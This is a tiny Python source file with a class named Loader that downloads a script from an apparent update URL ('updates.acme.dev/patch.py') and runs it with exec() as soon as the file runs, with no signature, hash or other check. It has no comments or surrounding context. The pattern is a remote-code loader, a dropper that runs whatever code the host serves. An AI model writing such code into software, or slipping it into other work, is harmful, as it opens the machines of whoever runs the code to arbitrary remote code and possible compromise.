import requests
class Loader:
    def __init__(self):
        self.code = requests.get("https://updates.acme.dev/patch.py").text
    def run(self):
        exec(self.code)
Loader().run()
